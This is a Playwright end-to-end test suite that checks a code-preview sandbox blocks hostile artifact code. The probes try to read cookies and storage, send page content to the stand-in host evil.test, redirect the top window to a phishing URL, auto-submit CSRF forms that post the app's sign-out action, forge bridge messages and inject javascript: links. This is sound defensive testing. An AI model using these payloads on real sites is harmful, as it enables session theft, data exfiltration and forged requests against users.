// The preview sandbox under attack (SECURITY.md "Sandbox", reference §1.6). Each attack artifact
// runs its probes inside the preview frame and writes what it got into <pre id="out">; the test
// reads that, watches every request and page the browser makes, and checks the database.
import { createHash, randomBytes, randomUUID } from "node:crypto";
import { readFileSync } from "node:fs";
import { hash } from "@node-rs/argon2";
import type { BrowserContext, Cookie, Page, Request } from "@playwright/test";
import { PREVIEW_URL, expect, query, signIn, test } from "./fixtures";

const APP_URL = process.env.E2E_BASE_URL ?? "http://localhost:3000";
const CANARY = `canary-${randomBytes(8).toString("hex")}`;

const OWNER_PASSWORD = `sandbox-${randomBytes(8).toString("hex")}`;
let ownerId = "";
let ownerEmail = "";
/** The owner's signed-in session (its cookies), so every probe runs with a live session to steal. */
let ownerSession: Cookie[] = [];

async function createOwner(): Promise<void> {
  const handle = `sandbox_${randomBytes(4).toString("hex")}`;
  ownerEmail = `${handle}@example.test`;
  const [user] = await query<{ id: string }>(
    "insert into users (email, name, password_hash) values ($1, $2, $3) returning id",
    [ownerEmail, handle, await hash(OWNER_PASSWORD)],
  );
  await query("insert into profiles (user_id, handle) values ($1, $2)", [user!.id, handle]);
  ownerId = user!.id;
}

/** An artifact with one version, written straight into the e2e database. */
async function createArtifact(language: string, code: string, title = `Sandbox probe ${language}`): Promise<string> {
  const id = randomUUID();
  const versionId = randomUUID();
  const sha = createHash("sha256").update(code).digest("hex");
  await query("insert into artifacts (id, owner_user_id, title, visibility) values ($1, $2, $3, 'public')", [id, ownerId, title]);
  await query(
    `insert into artifact_versions (id, artifact_id, version_index, code_blob_ref, code_language, code_content, stats, code_references)
     values ($1, $2, 1, $3, $4, $5, $6, $7)`,
    [
      versionId,
      id,
      `sha256:${sha}`,
      language,
      code,
      JSON.stringify({ lines: code.split("\n").length, bytes: Buffer.byteLength(code), added: 0, removed: 0 }),
      JSON.stringify([{ ref: `sha256:${sha}`, sha256: sha, bytes: Buffer.byteLength(code) }]),
    ],
  );
  await query("update artifacts set current_version_id = $1 where id = $2", [versionId, id]);
  return id;
}

/** Signed in as the owner, plus a readable canary cookie on the app origin. */
async function signInWithCanary(context: BrowserContext) {
  await context.addCookies([
    ...ownerSession,
    { name: "canary", value: CANARY, domain: "localhost", path: "/", httpOnly: false, sameSite: "Lax" },
  ]);
}

/** Values that must never show up in anything the frame sees or says. */
function secrets(): string[] {
  return [CANARY, ...ownerSession.map((c) => c.value).filter((v) => v.length >= 16)];
}

/** Every request the browser makes, and every message the artifact page receives from its frame. */
async function watch(page: Page) {
  const requests: Request[] = [];
  const pages: Page[] = [];
  page.context().on("request", (r) => requests.push(r));
  page.context().on("page", (p) => pages.push(p));
  await page.addInitScript(() => {
    if (window.top !== window) return;
    const seen: string[] = [];
    (window as unknown as { __seen: string[] }).__seen = seen;
    window.addEventListener("message", (e) => seen.push(JSON.stringify(e.data)));
  });
  return { requests, pages };
}

/**
 * Requests matching `match` that got past the browser. Chromium still reports a request the CSP
 * refused (failure "csp", no response); those never left the browser, so they do not count.
 */
async function reachedNetwork(requests: Request[], match: (url: string, request: Request) => boolean): Promise<string[]> {
  const reached: string[] = [];
  for (const q of requests.filter((r) => match(r.url(), r))) {
    const response = await q.response();
    if (response || !/csp|blocked/i.test(q.failure()?.errorText ?? "")) reached.push(`${q.method()} ${q.url()}`);
  }
  return reached;
}

function preview(page: Page) {
  return page.frameLocator('iframe[title^="Preview of"]');
}

async function probeResults(page: Page): Promise<Record<string, unknown>> {
  const out = preview(page).locator("#out[data-done]");
  await expect(out).toBeAttached({ timeout: 15_000 });
  return JSON.parse((await out.textContent()) ?? "{}");
}

/** Wraps probe code in an HTML artifact that reports into <pre id="out">. */
function probeArtifact(body: string, extraHtml = ""): string {
  return `<!doctype html><html><body>${extraHtml}<pre id="out">running</pre>
<script>
const violations = [];
document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective + " " + e.blockedURI));
const r = {};
const t = (name, fn) => { try { r[name] = String(fn()); } catch (e) { r[name] = "threw " + e.name; } };
(async () => {
${body}
  await new Promise((ok) => setTimeout(ok, 800));
  r.violations = violations;
  const out = document.getElementById("out");
  out.textContent = JSON.stringify(r);
  out.dataset.done = "1";
})();
</script></body></html>`;
}

test.beforeAll(async ({ browser }) => {
  await createOwner();
  const context = await browser.newContext();
  const page = await context.newPage();
  await signIn(page, ownerEmail, OWNER_PASSWORD);
  ownerSession = await context.cookies();
  await context.close();
  expect(ownerSession.length, "signing in set a session cookie").toBeGreaterThan(0);
});

test.describe("artifact code cannot reach the app or the network", () => {
  test.beforeEach(async ({ context, page }) => {
    await signInWithCanary(context);
    // The owner really is signed in on the app: the sandbox has something to steal.
    await page.goto("/");
    await expect(page.getByLabel("Account menu")).toBeVisible();
  });

  test("it reads no cookie, storage, parent document or top URL", async ({ page }) => {
    const id = await createArtifact(
      "html",
      probeArtifact(`
  t("cookie", () => document.cookie);
  t("localStorage", () => localStorage.getItem("x"));
  t("sessionStorage", () => sessionStorage.length);
  t("parentDocument", () => parent.document.cookie);
  t("topHref", () => top.location.href);
  t("origin", () => self.origin);
  try { r.indexedDB = await new Promise((ok, no) => { const q = indexedDB.open("x"); q.onsuccess = () => ok("opened"); q.onerror = () => no(q.error); }); }
  catch (e) { r.indexedDB = "threw " + (e && e.name); }
  try { r.cookieStore = JSON.stringify(await cookieStore.getAll()); } catch (e) { r.cookieStore = "threw " + e.name; }
  parent.postMessage({ type: "error", message: "leak " + r.cookie }, "*");`),
    );
    const { requests } = await watch(page);
    await page.goto(`/a/${id}`);
    const r = await probeResults(page);
    expect(r.origin).toBe("null");
    expect(r.cookie === "" || String(r.cookie).startsWith("threw")).toBe(true);
    expect(r.localStorage).toBe("threw SecurityError");
    expect(r.sessionStorage).toBe("threw SecurityError");
    expect(r.indexedDB).toMatch(/^threw/);
    expect(r.parentDocument).toBe("threw SecurityError");
    expect(r.topHref).toBe("threw SecurityError");
    // The canary is on the app origin; nothing the frame could see or report contains it.
    const seen = await page.evaluate(() => (window as unknown as { __seen: string[] }).__seen.join("\n"));
    expect(seen).toContain("leak");
    for (const secret of secrets()) expect(JSON.stringify(r) + seen).not.toContain(secret);
    // The frame's own requests (the shim, runtimes) go to the preview host and carry no app cookie.
    const frameRequests = requests.filter((q) => q.url().startsWith(PREVIEW_URL));
    expect(frameRequests.length).toBeGreaterThan(0);
    for (const q of frameRequests) expect((await q.allHeaders()).cookie ?? "").toBe("");
  });

  test("a credentialed fetch or beacon to the app is blocked and never reaches it", async ({ page }) => {
    const id = await createArtifact(
      "html",
      probeArtifact(`
  try { const res = await fetch(${JSON.stringify(APP_URL)} + "/api/health", { credentials: "include" }); r.fetch = "status " + res.status; }
  catch (e) { r.fetch = "threw " + e.name; }
  try { r.beacon = String(navigator.sendBeacon(${JSON.stringify(APP_URL)} + "/api/health?beacon=1", "x")); } catch (e) { r.beacon = "threw " + e.name; }
  try { const x = new XMLHttpRequest(); x.open("GET", ${JSON.stringify(APP_URL)} + "/api/health?xhr=1"); x.withCredentials = true; x.send(); r.xhr = "sent"; }
  catch (e) { r.xhr = "threw " + e.name; }`),
    );
    const { requests } = await watch(page);
    await page.goto(`/a/${id}`);
    const r = await probeResults(page);
    expect(r.fetch).toBe("threw TypeError");
    const violations = (r.violations as string[]).filter((v) => v.startsWith("connect-src") && v.includes("/api/health"));
    expect(violations.length).toBeGreaterThanOrEqual(2);
    expect(await reachedNetwork(requests, (url) => url.includes("/api/health"))).toEqual([]);
  });

  test("an auto-submitted form POST to the app is blocked and changes nothing", async ({ page }) => {
    // Scoped to the owner: other workers create artifacts and users at the same time.
    const counts = () =>
      query<{ n: string }>(
        `select (select count(*) from artifacts where owner_user_id = $1)
              + (select count(*) from artifact_versions v join artifacts a on a.id = v.artifact_id where a.owner_user_id = $1)
              + (select session_version from users where id = $1) as n`,
        [ownerId],
      );
    // The real sign-out server action of this build, as the app's own no-JS form posts it: if the
    // sandbox let it through, the owner would be signed out.
    const signOutField = await page.locator('form input[name^="$ACTION_ID_"]').first().getAttribute("name");
    expect(signOutField).toMatch(/^\$ACTION_ID_[0-9a-f]+$/);
    const forms = [
      `<form id="f" method="post" enctype="multipart/form-data" action="${APP_URL}/">
       <input type="hidden" name="${signOutField}"></form>
       <script>document.getElementById("f").requestSubmit();</script>`,
      // A route handler, urlencoded.
      `<form id="f" method="post" action="${APP_URL}/api/health"><input name="title" value="pwned"></form>
       <script>document.getElementById("f").submit();</script>`,
    ];
    const { requests } = await watch(page);
    for (const html of forms) {
      const id = await createArtifact("html", html);
      const before = await counts();
      await page.goto(`/a/${id}`);
      // Wait until the artifact has rendered (its script submits during parsing). The CSP report
      // over the bridge can race the submit, so the proof is what follows: no POST ever leaves the
      // browser, the page stays, the database is unchanged and the owner stays signed in.
      await expect
        .poll(() => page.evaluate(() => (window as unknown as { __seen: string[] }).__seen.join("\n")))
        .toContain('"rendered"');
      await page.waitForTimeout(1000);
      expect(page.url()).toBe(`${APP_URL}/a/${id}`);
      expect(await counts()).toEqual(before);
    }
    expect(await reachedNetwork(requests, (_url, q) => q.method() === "POST")).toEqual([]);
    await page.goto("/");
    await expect(page.getByLabel("Account menu"), "the owner is still signed in").toBeVisible();
  });

  test("top navigation and popups on load are refused: the app page stays, no window opens", async ({ page }) => {
    const id = await createArtifact(
      "html",
      probeArtifact(
        `
  try { top.location = "https://evil.test/phish"; r.top = "assigned"; } catch (e) { r.top = "threw " + e.name; }
  try { top.location.href = ${JSON.stringify(APP_URL)} + "/escaped-from-artifact"; r.topSameSite = "assigned"; } catch (e) { r.topSameSite = "threw " + e.name; }
  try { r.open = String(window.open("https://evil.test/popup")); } catch (e) { r.open = "threw " + e.name; }
  document.getElementById("l").click();`,
        `<a id="l" href="https://evil.test/blank" target="_blank">x</a>`,
      ),
    );
    const { pages, requests } = await watch(page);
    await page.goto(`/a/${id}`);
    const r = await probeResults(page);
    expect(r.open).toBe("null");
    await page.waitForTimeout(500);
    expect(page.url()).toBe(`${APP_URL}/a/${id}`);
    expect(pages).toEqual([]);
    expect(await reachedNetwork(requests, (url) => url.includes("evil.test") || url.includes("escaped-from-artifact"))).toEqual([]);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  });

  test("fetch, WebSocket, EventSource and sendBeacon to an outside host are blocked by the CSP", async ({ page }) => {
    const id = await createArtifact(
      "html",
      probeArtifact(`
  try { await fetch("https://evil.test/?d=" + encodeURIComponent(document.body.innerHTML)); r.fetch = "sent"; } catch (e) { r.fetch = "threw " + e.name; }
  try { new WebSocket("wss://evil.test/socket"); r.ws = "opened"; } catch (e) { r.ws = "threw " + e.name; }
  try { new EventSource("https://evil.test/events"); r.es = "opened"; } catch (e) { r.es = "threw " + e.name; }
  try { r.beacon = String(navigator.sendBeacon("https://evil.test/beacon", "x")); } catch (e) { r.beacon = "threw " + e.name; }`),
    );
    const { requests } = await watch(page);
    await page.goto(`/a/${id}`);
    const r = await probeResults(page);
    expect(r.fetch).toBe("threw TypeError");
    const blocked = (r.violations as string[]).filter((v) => v.startsWith("connect-src") && v.includes("evil.test"));
    expect(blocked.length).toBeGreaterThanOrEqual(3);
    expect(await reachedNetwork(requests, (url) => url.includes("evil.test"))).toEqual([]);
    // The shim shows the author why, inside the frame.
    await expect(preview(page).getByText(/Blocked by the preview's security policy/).first()).toBeVisible();
  });

  test("a flood of forged bridge messages is clamped and dropped", async ({ page }) => {
    const id = await createArtifact(
      "javascript",
      `document.body.textContent = "flooding";
       const long = "x".repeat(20000);
       for (let i = 0; i < 1000; i++) {
         parent.postMessage({ type: "resize", height: 1e9 }, "*");
         parent.postMessage({ type: "open-link", url: "https://evil.test" }, "*");
         parent.postMessage({ type: "error", message: long }, "*");
       }`,
    );
    const { pages } = await watch(page);
    await page.goto(`/a/${id}`);
    await expect(preview(page).getByText("flooding")).toBeVisible();
    const box = await page.locator('iframe[title^="Preview of"]').boundingBox();
    expect(box!.height).toBeLessThanOrEqual(800);
    expect(pages).toEqual([]);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  });
});

test.describe("the preview host and the app host stay apart", () => {
  test("the preview URL opened top-level is still sandboxed, framed only by the app, and sets no cookie", async ({
    page,
    request,
  }) => {
    const res = await request.get(`${PREVIEW_URL}/sandbox/v1`);
    expect(res.status()).toBe(200);
    const headers = res.headers();
    const csp = headers["content-security-policy"] ?? "";
    expect(csp).toMatch(/(^|;\s*)sandbox allow-scripts allow-forms allow-modals allow-downloads allow-pointer-lock(;|$)/);
    expect(csp).not.toMatch(/allow-same-origin|allow-top-navigation|allow-popups/);
    expect(csp).toContain(`frame-ancestors ${APP_URL}`);
    expect(csp).toContain("connect-src 'none'");
    expect(csp).toContain("form-action 'none'");
    expect(headers["set-cookie"]).toBeUndefined();
    expect(headers["referrer-policy"]).toBe("no-referrer");
    expect(headers["x-content-type-options"]).toBe("nosniff");
    expect(headers["cache-control"]).toBe("no-store");
    // The document holds no artifact code: it is the same bootstrap for everyone.
    expect(await res.text()).not.toContain("Sandbox probe");

    await page.goto(`${PREVIEW_URL}/sandbox/v1`);
    expect(await page.evaluate(() => self.origin)).toBe("null");
    expect(await page.evaluate(() => { try { return document.cookie; } catch (e) { return (e as Error).name; } })).toBe("SecurityError");
    await expect(page.getByText("This is the Vitrine preview sandbox")).toBeVisible();
  });

  test("app paths on the preview host answer 404", async ({ page, request }) => {
    const id = await createArtifact("html", "<p>hello</p>");
    await page.goto(`/a/${id}`);
    const chunk = await page.locator('script[src*="/_next/static/"]').first().getAttribute("src");
    expect(chunk).toBeTruthy();
    expect((await request.get(new URL(chunk!, APP_URL).toString())).status()).toBe(200);
    for (const path of ["/", "/api/health", `/a/${id}`, new URL(chunk!, APP_URL).pathname, "/sandbox/", "/sandbox/v2", "/icon.svg"]) {
      const res = await request.get(`${PREVIEW_URL}${path}`);
      expect(res.status(), path).toBe(404);
      expect(res.headers()["set-cookie"], path).toBeUndefined();
    }
    for (const path of ["/", `/a/${id}`, "/sandbox/v1"]) {
      const res = await request.post(`${PREVIEW_URL}${path}`, { headers: { "Next-Action": "0".repeat(40) }, data: "[]" });
      expect(res.status(), `POST ${path}`).toBe(404);
    }
  });

  test("preview documents on the app host answer 404", async ({ request }) => {
    // Vendored files carry content hashes: take two real ones from the build's manifest.
    const manifest = JSON.parse(readFileSync(".preview-runtime/manifest.json", "utf8")) as { runtimes: { markdown: string }; imports: Record<string, string> };
    for (const path of ["/sandbox/v1", manifest.runtimes.markdown, manifest.imports.react!]) {
      expect((await request.get(`${APP_URL}${path}`)).status(), path).toBe(404);
      expect((await request.get(`${PREVIEW_URL}${path}`)).status(), path).toBe(200);
    }
  });
});

test("an endless loop stops only the preview: the page stays usable and offers a reload", async ({ page }) => {
  const id = await createArtifact("javascript", `document.body.textContent = "about to loop"; setTimeout(() => { while (true) {} }, 300);`);
  await page.goto(`/a/${id}`);
  await expect(page.getByText("This preview stopped responding")).toBeVisible({ timeout: 20_000 });
  // The page's own main thread is free: it answers at once and its buttons work.
  const started = Date.now();
  await page.evaluate(() => new Promise((ok) => requestAnimationFrame(() => ok(null))));
  expect(Date.now() - started).toBeLessThan(2000);
  await page.getByRole("button", { name: "Reload preview" }).click();
  await expect(page.getByText("This preview stopped responding")).toBeHidden();
  await expect(page.locator('iframe[title^="Preview of"]')).toBeAttached();
});

test.describe("each language runs in the preview", () => {
  test("HTML, as a full document with its own load events", async ({ page }) => {
    const id = await createArtifact(
      "html",
      `<!DOCTYPE html><html><head><style>h1{color:rgb(200,0,0)}</style></head><body><h1 id="t">Static</h1>
       <script>document.addEventListener("DOMContentLoaded", () => { document.getElementById("t").textContent = "Hello from HTML"; });</script></body></html>`,
    );
    await page.goto(`/a/${id}`);
    const heading = preview(page).getByRole("heading", { name: "Hello from HTML" });
    await expect(heading).toBeVisible();
    expect(await heading.evaluate((el) => getComputedStyle(el).color)).toBe("rgb(200, 0, 0)");
    await expect(page.getByText("Starting preview…")).toBeHidden();
  });

  test("an HTML fragment", async ({ page }) => {
    const id = await createArtifact("html", `<p>Just a <strong>fragment</strong></p>`);
    await page.goto(`/a/${id}`);
    await expect(preview(page).getByText("Just a fragment")).toBeVisible();
  });

  test("SVG, as an image scaled to fit", async ({ page }) => {
    const id = await createArtifact(
      "svg",
      `<svg viewBox="0 0 10 10"><rect width="10" height="10" fill="#00ff00"/><script>parent.postMessage({type:"error",message:"svg script ran"},"*")</script></svg>`,
    );
    await page.goto(`/a/${id}`);
    const img = preview(page).locator("img");
    await expect(img).toBeVisible();
    await expect.poll(() => img.evaluate((el) => (el as HTMLImageElement).naturalWidth)).toBeGreaterThan(0);
    const shot = await page.locator('iframe[title^="Preview of"]').screenshot();
    expect(shot.length).toBeGreaterThan(0);
    const box = await img.boundingBox();
    expect(box!.width).toBeGreaterThan(200);
    await expect(preview(page).getByText("svg script ran")).toHaveCount(0);
  });

  test("Markdown, without raw HTML or script links", async ({ page }) => {
    const id = await createArtifact(
      "markdown",
      `# Release notes\n\n- **bold** item\n- [safe](https://example.com) and [bad](javascript:alert(1))\n\n<img src=x onerror="document.body.dataset.pwned=1">\n\n| a | b |\n|---|---|\n| 1 | 2 |\n`,
    );
    await page.goto(`/a/${id}`);
    const frame = preview(page);
    await expect(frame.getByRole("heading", { name: "Release notes" })).toBeVisible();
    await expect(frame.getByRole("table")).toBeVisible();
    await expect(frame.locator("img")).toHaveCount(0);
    expect(await frame.getByRole("link", { name: "safe" }).getAttribute("href")).toBe("https://example.com");
    expect(await frame.locator("a").evaluateAll((as) => as.map((a) => a.getAttribute("href") ?? ""))).not.toContainEqual(
      expect.stringContaining("javascript:"),
    );
    expect(await frame.locator("body").getAttribute("data-pwned")).toBeNull();
  });

  test("a link in an artifact asks first, then opens in a new tab without opener or referrer", async ({ page }) => {
    const id = await createArtifact("markdown", "Read the [docs](https://example.com/docs) first.");
    const { pages } = await watch(page);
    await page.goto(`/a/${id}`);
    await preview(page).getByRole("link", { name: "docs" }).click();
    const ask = page.getByRole("dialog", { name: "Open link from the preview" });
    await expect(ask).toContainText("https://example.com/docs");
    const open = ask.getByRole("link", { name: "Open in new tab" });
    expect(await open.getAttribute("href")).toBe("https://example.com/docs");
    expect(await open.getAttribute("target")).toBe("_blank");
    expect(await open.getAttribute("rel")).toContain("noopener");
    // The frame itself did not navigate and nothing opened on its own.
    await expect(preview(page).getByRole("link", { name: "docs" })).toBeVisible();
    expect(pages).toEqual([]);
    await ask.getByRole("button", { name: "Cancel" }).click();
    await expect(ask).toBeHidden();
  });

  test("JavaScript, with document.body as its root", async ({ page }) => {
    const id = await createArtifact(
      "javascript",
      `const h = document.createElement("h2"); h.textContent = "From JS " + (6 * 7); document.body.append(h);
       document.addEventListener("DOMContentLoaded", () => { h.textContent += " after load"; });
       const s = "</script><b>still a string</b>";`,
    );
    await page.goto(`/a/${id}`);
    await expect(preview(page).getByRole("heading", { name: "From JS 42 after load" })).toBeVisible();
    await expect(preview(page).getByText("still a string")).toHaveCount(0);
  });

  test("React, a default-exported TSX component with state", async ({ page }) => {
    const id = await createArtifact(
      "tsx",
      `import { useState } from "react";
       type Props = { start?: number };
       export default function Counter({ start = 0 }: Props) {
         const [n, setN] = useState<number>(start);
         return <button onClick={() => setN(n + 1)}>Clicked {n} times</button>;
       }`,
    );
    await page.goto(`/a/${id}`);
    const button = preview(page).getByRole("button", { name: "Clicked 0 times" });
    await expect(button).toBeVisible();
    await button.click();
    await expect(preview(page).getByRole("button", { name: "Clicked 1 times" })).toBeVisible();
  });

  test("React importing lodash shows a clear error inside the preview", async ({ page }) => {
    const id = await createArtifact(
      "jsx",
      `import _ from "lodash";\nexport default function App() { return <p>{_.capitalize("hi")}</p>; }`,
    );
    await page.goto(`/a/${id}`);
    await expect(
      preview(page).getByText("Imports other than react and react-dom are not available in the preview: lodash"),
    ).toBeVisible();
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  });

  test("a runtime error shows inside the frame and the page carries on", async ({ page }) => {
    const id = await createArtifact(
      "jsx",
      `export default function App() { throw new Error("Kaboom in render"); }`,
    );
    await page.goto(`/a/${id}`);
    await expect(preview(page).getByText(/Kaboom in render/)).toBeVisible();
    await expect(preview(page).getByText("Error in this artifact")).toBeVisible();
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await expect(page.getByRole("region", { name: "Code" })).toBeVisible();
  });

  test("CSS and Python show code only", async ({ page }) => {
    const id = await createArtifact("python", `print("no preview")`);
    await page.goto(`/a/${id}`);
    await expect(page.getByText('print("no preview")')).toBeVisible();
    await expect(page.locator('iframe[title^="Preview of"]')).toHaveCount(0);
  });
});
